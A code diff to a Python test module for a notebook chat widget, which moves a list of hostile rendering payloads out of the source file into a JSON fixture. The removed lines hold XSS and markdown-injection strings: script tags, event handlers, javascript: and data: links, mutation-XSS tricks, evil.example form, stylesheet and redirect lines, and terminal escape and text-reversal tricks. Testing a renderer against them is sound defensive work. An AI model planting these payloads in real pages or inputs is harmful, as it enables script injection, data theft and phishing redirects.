@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import base64
+import json
 import struct
 import zlib
+from pathlib import Path
 from typing import Any
 
 from copilot_widget.notebook.record import RecordTurn
@@ -127,55 +129,8 @@ def ordinary() -> RecordTurn:
 
 # ---- hostile -------------------------------------------------------------------------------------------
 
-PAYLOADS = (
-    "<script>pwned()</script>",
-    "<img src=x onerror=pwned()>",
-    "<svg/onload=pwned()>",
-    '"><script>pwned()</script>',
-    "'><img src=x onerror=pwned()>",
-    "</details></summary></pre></code></table></div><script>pwned()</script>",
-    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
-    "<form action=https://evil.example><input name=key autofocus onfocus=pwned()>",
-    "<style>*{display:none!important}</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<!-- hidden from here",
-    "<![CDATA[ x",
-    "<details>",
-    "<plaintext>",
-    "<textarea>",
-    "<a href=javascript:pwned()>click</a>",
-    "[click](javascript:pwned())",
-    "[click](JaVaScRiPt&colon;pwned())",
-    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
-    "[click](vbscript:pwned)",
-    "![x](https://evil.example/pixel.png)",
-    "![x](javascript:pwned())",
-    "[x]: javascript:pwned()\n[x]",
-    "[![x](https://evil.example/p.png)](https://example.org)",
-    "<javascript:pwned()>",
-    "```\n</code></pre><script>pwned()</script>",
-    "~~~~~~\n<script>pwned()</script>",
-    "`````````\n</details>",
-    "`<script>pwned()</script>",
-    "$<script>pwned()</script>$ \\(\\href{javascript:pwned()}{x}\\)",
-    "$$![x](https://evil.example/p.png)$$",
-    "| a | b |\n| --- | --- |\n| <script>pwned()</script> | `|` |\n\n",
-    "# heading\n===\n- [ ] <b onclick=pwned()>x</b>",
-    "    <script>pwned()</script>\n\n\n    code",
-    "\x1b]8;;javascript:pwned()\x07click\x1b]8;;\x07\x1b[31mred\x00",
-    "\u202egnp.exe\u2066 turned round",
-    "&lt;script&gt;pwned()&lt;/script&gt; &#60;script&#62; &colon;",
-    "\\<script>pwned()\\</script>",
-    "<a href='https://example.org' onclick=pwned() style='position:fixed;inset:0'>x</a>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
-    "<svg></p><style><a id='</style><img src=1 onerror=pwned()>'>",
-    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
-    "> > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > quoted",
-    "<" * 60,
-    "[" * 60,
-    "*" * 30 + "_" * 30,
+PAYLOADS: tuple[str, ...] = tuple(
+    json.loads((Path(__file__).parent / "fixtures" / "hostile.json").read_text(encoding="utf-8"))["payloads"]
 )
 
 
